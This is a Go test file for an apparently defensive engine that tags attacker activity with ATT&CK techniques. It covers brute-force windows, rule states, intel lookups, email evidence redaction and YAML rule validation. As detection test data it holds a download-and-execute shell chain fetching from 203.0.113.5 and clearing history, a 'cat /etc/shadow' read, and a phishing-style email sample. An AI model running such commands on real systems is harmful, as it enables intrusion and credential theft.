package ttp

import (
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/attack"
	"github.com/decnet-go/decnet/internal/event"
)

func TestTagIDGolden(t *testing.T) {
	for _, tc := range []struct {
		kind, src, rule string
		ver             int
		tech, sub, want string
	}{
		{"command", "cmd_42", "R0014", 2, "T1083", "", "9aa491e5-f03b-5d8f-9eb5-161becedcdd6"},
		{"command", "cmd_42", "R0015", 1, "T1548", "T1548.001", "4fd57b14-c135-544c-97d9-4fabc1051584"},
	} {
		if got := TagID(tc.kind, tc.src, tc.rule, tc.ver, tc.tech, tc.sub); got != tc.want {
			t.Errorf("TagID(%s,%s,%s,%d,%s,%q) = %s, want %s", tc.kind, tc.src, tc.rule, tc.ver, tc.tech, tc.sub, got, tc.want)
		}
	}
}

func TestSameEventSameTags(t *testing.T) {
	e := newTestEngine(t)
	x := cmd("cd /tmp; wget http://203.0.113.5/x; chmod +x x; ./x; history -c")
	a, b := e.Tag(x), e.Tag(x)
	if len(a) == 0 || len(a) != len(b) {
		t.Fatalf("%d then %d tags", len(a), len(b))
	}
	rows := map[string]bool{} // an insert-or-ignore table keyed by uuid
	for i := range a {
		if a[i].ID != b[i].ID {
			t.Errorf("tag %d id changed: %s vs %s", i, a[i].ID, b[i].ID)
		}
		rows[a[i].ID], rows[b[i].ID] = true, true
	}
	if len(rows) != len(a) {
		t.Errorf("%d rows after inserting twice, want %d", len(rows), len(a))
	}
	// A windowed rule replayed over the same stream gives the same ids too.
	s := repeat(12, func(i int) event.Event { return login("ssh", "root", "p", "failure") })
	ids := func() []string {
		var out []string
		tr := e.NewTracker(0)
		for _, x := range s {
			for _, tg := range tr.Observe(x) {
				out = append(out, tg.ID)
			}
		}
		return out
	}
	if first, second := ids(), ids(); strings.Join(first, ",") != strings.Join(second, ",") || len(first) == 0 {
		t.Errorf("replay changed ids: %v vs %v", first, second)
	}
}

func TestBruteForceFiresOncePerEpisode(t *testing.T) {
	e := newTestEngine(t)
	tr := e.NewTracker(0)
	n := 0
	for i := range 50 {
		x := login("ssh", "root", "p", "failure")
		x.Time = t0.Add(time.Duration(i) * time.Second)
		for _, tg := range tr.Observe(x) {
			if tg.RuleID == "R0001" {
				n++
				if tg.Evidence["fail_count"] != 10 {
					t.Errorf("evidence %v", tg.Evidence)
				}
			}
		}
	}
	if n != 1 {
		t.Errorf("R0001 fired %d times over one burst, want 1", n)
	}
}

func TestRuleState(t *testing.T) {
	set, err := Embedded(attack.Default())
	if err != nil {
		t.Fatal(err)
	}
	now := t0
	states := &StateMap{}
	e := New(set, Options{States: states, Now: func() time.Time { return now }})
	x := cmd("cat /etc/shadow")
	count := func() (n int, conf float64) {
		for _, tg := range e.Tag(x) {
			if tg.RuleID == "R0014" {
				n++
				conf = tg.Confidence
			}
		}
		return
	}
	if n, c := count(); n != 1 || c != 0.8 {
		t.Fatalf("enabled: %d tags conf %v", n, c)
	}
	states.Set("R0014", State{Mode: Disabled})
	if n, _ := count(); n != 0 {
		t.Error("disabled rule fired")
	}
	states.Set("R0014", State{Mode: Clipped, ConfidenceMax: 0.5})
	if n, c := count(); n != 1 || c != 0.5 {
		t.Errorf("clipped: %d tags conf %v", n, c)
	}
	states.Set("R0014", State{Mode: Clipped, ConfidenceMax: 0.2})
	if n, _ := count(); n != 0 {
		t.Error("clipped below the floor still fired")
	}
	states.Set("R0014", State{Mode: Disabled, ExpiresAt: now.Add(-time.Minute)})
	if n, _ := count(); n != 1 {
		t.Error("expired state still honoured")
	}
}

func TestIntelLookupOncePerAddress(t *testing.T) {
	set, _ := Embedded(attack.Default())
	ips := &countingIntel{}
	e := New(set, Options{IPs: ips})
	tr := e.NewTracker(0)
	var intel []Tag
	for range 5 {
		for _, tg := range tr.Observe(cmd("ls")) {
			if tg.SourceKind == KindIntel {
				intel = append(intel, tg)
			}
		}
	}
	if ips.calls != 1 {
		t.Errorf("%d lookups for one address", ips.calls)
	}
	if len(intel) != 3 { // T1110 from category 18; T1046 and T1595 from 14, each scaled by the score 0.4
		t.Fatalf("intel tags %+v", intel)
	}
	for _, tg := range intel {
		if tg.SourceID != "intel:198.51.100.7:abuseipdb" || tg.Evidence["provider"] != "abuseipdb" {
			t.Errorf("tag %+v", tg)
		}
	}
}

type countingIntel struct{ calls int }

func (c *countingIntel) IPVerdicts(ip string) []IPVerdict {
	c.calls++
	return []IPVerdict{{Provider: "abuseipdb", Verdict: "suspicious", Score: 40, Signals: []string{"18", "14"}}}
}

func TestEmailEvidenceHasNoAddresses(t *testing.T) {
	e := newTestEngine(t)
	m := mail("smtp_relay", map[string]any{
		"rcpt_count": 30, "from_hdr": "Boss <boss@victim.example>", "mail_from": "spam@bulk.example", "mail_from_domain": "bulk.example",
		"return_path": "<bounce@bulk.example>", "subject": "Urgent wire transfer", "attachments_json": att("pay.docm"), "attachment_count": 1,
	})
	tags := e.Tag(m)
	if len(tags) < 5 {
		t.Fatalf("only %d tags", len(tags))
	}
	for _, tg := range tags {
		for k, v := range tg.Evidence {
			if s, ok := v.(string); ok && strings.Contains(s, "@") {
				t.Errorf("%s evidence %s=%q", tg.RuleID, k, s)
			}
			if k == "mail_from" || k == "body" || k == "from_hdr" || k == "return_path" {
				t.Errorf("%s evidence keeps %s", tg.RuleID, k)
			}
		}
	}
}

func TestValidationErrors(t *testing.T) {
	cat := attack.Default()
	good := "rule_id: R9001\nrule_version: 1\nname: x\napplies_to: [command]\nmatch:\n  pattern: 'foo'\nemits:\n  - {tactic: TA0007, technique_id: T1082, confidence: 0.5}\n"
	for _, tc := range []struct{ name, yaml, want string }{
		{"unknown field", good + "colour: blue\n", "line 9: field colour not found in type ttp.Rule"},
		{"bad regex", strings.Replace(good, "'foo'", "'(?=x)foo'", 1), `x.yaml:6: rule R9001: match.pattern: does not compile as Go RE2`},
		{"unknown technique", strings.Replace(good, "T1082", "T9999", 1), `x.yaml:8: rule R9001: emits[0].technique_id: attack: unknown id: technique "T9999"`},
		{"revoked technique", strings.Replace(good, "T1082", "T1002", 1), `emits[0].technique_id: attack: technique revoked: T1002`},
		{"wrong tactic", strings.Replace(good, "TA0007", "TA0040", 1), `emits[0].tactic: T1082 (System Information Discovery) is not a technique of TA0040`},
		{"sub in technique_id", strings.Replace(good, "T1082", "T1059.004", 1), `is a sub-technique`},
		{"unknown kind", strings.Replace(good, "[command]", "[commands]", 1), `x.yaml:4: rule R9001: applies_to[0]: unknown source kind "commands"`},
		{"unknown lifter", strings.Replace(good, "pattern: 'foo'", "lifter: nope", 1), `match.lifter: unknown lifter "nope"`},
		{"bad lifter param", strings.Replace(good, "pattern: 'foo'", "lifter: brute_force\n  params: {treshold: 3}", 1), `field treshold not found`},
		{"pii evidence", strings.Replace(strings.Replace(good, "[command]", "[email]", 1), "pattern: 'foo'", "field: subject\n  pattern: 'foo'", 1) + "evidence_fields: [mail_from]\n", `evidence_fields[0]: "mail_from" may not be kept as evidence of email events`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("x.yaml", []byte(tc.yaml), cat)
			if err == nil {
				t.Fatal("accepted")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q\nwant it to contain %q", err, tc.want)
			}
		})
	}
	if _, err := Parse("x.yaml", []byte(good), cat); err != nil {
		t.Fatalf("good rule refused: %v", err)
	}
}

func TestLoadDirOverridesAndDuplicates(t *testing.T) {
	cat := attack.Default()
	dir := t.TempDir()
	override := "rule_id: R0014\nrule_version: 3\nname: Shadow (site)\napplies_to: [command]\nmatch:\n  pattern: 'shadow'\nemits:\n  - {tactic: TA0006, technique_id: T1003, sub_technique_id: T1003.008, confidence: 0.9}\n"
	extra := strings.Replace(strings.Replace(override, "R0014", "R9000", 1), "shadow", "secretsauce", 1)
	if err := os.WriteFile(filepath.Join(dir, "site.yaml"), []byte(override+"---\n"+extra), 0o644); err != nil {
		t.Fatal(err)
	}
	set, err := Load(dir, cat)
	if err != nil {
		t.Fatal(err)
	}
	emb, _ := Embedded(cat)
	if set.Len() != emb.Len()+1 {
		t.Errorf("%d rules, want %d", set.Len(), emb.Len()+1)
	}
	if r, _ := set.Rule("R0014"); r.Version != 3 || !strings.HasSuffix(r.Source, "site.yaml:1") {
		t.Errorf("override not applied: %+v", r)
	}
	e := New(emb, Options{})
	if err := e.ReloadDir(dir); err != nil {
		t.Fatal(err)
	}
	if tags := e.Tag(cmd("echo secretsauce")); len(tags) != 1 || tags[0].RuleID != "R9000" {
		t.Errorf("reloaded rules not used: %+v", tags)
	}
	// A duplicate id in the directory is refused, and the engine keeps its rules.
	if err := os.WriteFile(filepath.Join(dir, "dup.yaml"), []byte(extra), 0o644); err != nil {
		t.Fatal(err)
	}
	err = e.ReloadDir(dir)
	if err == nil || !regexp.MustCompile(`rule_id R9000 already defined at .*\.yaml:1`).MatchString(err.Error()) {
		t.Errorf("duplicate: %v", err)
	}
	if _, ok := e.Rules().Rule("R9000"); !ok {
		t.Error("failed reload dropped the current rules")
	}
	// Badly named files are refused.
	os.Remove(filepath.Join(dir, "dup.yaml"))
	os.WriteFile(filepath.Join(dir, "bad-name.yaml"), []byte(extra), 0o644)
	if _, err := LoadDir(dir, cat); err == nil || !strings.Contains(err.Error(), "bad-name.yaml: file name must match") {
		t.Errorf("bad file name: %v", err)
	}
}

func TestTrackerBounded(t *testing.T) {
	e := newTestEngine(t)
	tr := e.NewTracker(50)
	for i := range 5000 {
		x := login("ssh", "root", "p", "failure")
		x.SrcIP = "10.0." + strconv.Itoa(i/250) + "." + strconv.Itoa(i%250)
		tr.Observe(x)
	}
	// 5000 addresses, but each windowed rule keeps at most 50 keys (+50 intel-free addresses).
	if n := tr.Size(); n == 0 || n > 7*50 {
		t.Errorf("size %d", n)
	}
}

// TestTrackerKeepsRecentKeys: a full counter forgets the keys idle the
// longest, so an address that is still attacking keeps its window.
func TestTrackerKeepsRecentKeys(t *testing.T) {
	e := newTestEngine(t)
	tr := e.NewTracker(64)
	start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	fail := func(ip string, at time.Time) []Tag {
		x := login("ssh", "root", "p", "failure")
		x.SrcIP, x.Time = ip, at
		return tr.Observe(x)
	}
	// The persistent attacker guesses every 2 s while 1000 one-shot
	// addresses pass, 20 between two of its guesses: fewer than the 64
	// keys kept, so its tenth failure still fires brute force.
	var fired bool
	for i := range 1000 {
		at := start.Add(time.Duration(i) * 100 * time.Millisecond)
		fail("10.9."+strconv.Itoa(i/250)+"."+strconv.Itoa(i%250), at)
		if i%20 == 0 {
			for _, tg := range fail("198.51.100.7", at) {
				fired = fired || tg.RuleID == "R0001"
			}
		}
	}
	if !fired {
		t.Error("the persistent address lost its brute-force window to eviction")
	}
}
